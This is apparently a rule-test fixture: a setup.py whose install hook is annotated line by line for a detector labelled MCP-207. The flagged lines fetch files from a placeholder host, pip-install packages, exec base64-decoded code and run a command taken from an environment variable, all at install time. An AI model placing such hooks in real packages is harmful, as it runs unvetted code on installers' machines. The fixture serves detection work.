import base64
import os
import subprocess
import sys
import urllib.request

from setuptools import setup
from setuptools.command.install import install

# ok: MCP-207
exec(open("src/version.py").read())
# ok: MCP-207
commit = subprocess.check_output(["git", "rev-parse", "HEAD"])


class Fetch(install):
    def run(self):
        # ruleid: MCP-207
        urllib.request.urlretrieve("https://downloads.example.com/tool", "tool")
        # ruleid: MCP-207
        subprocess.run(["curl", "-o", "more", "https://downloads.example.com/more"], check=True)
        # ruleid: MCP-207
        os.system("pip install example-helper")
        # ruleid: MCP-207
        exec(base64.b64decode("cHJpbnQoMSk="))
        # ruleid: MCP-207
        subprocess.check_call([sys.executable, "-m", "pip", "install", "example-helper"])
        # ok: MCP-207
        os.system("cmake --build .")
        # ruleid: MCP-207
        os.system(os.environ["AFTER_INSTALL"])
        install.run(self)


setup(name="example-server", cmdclass={"install": Fetch})
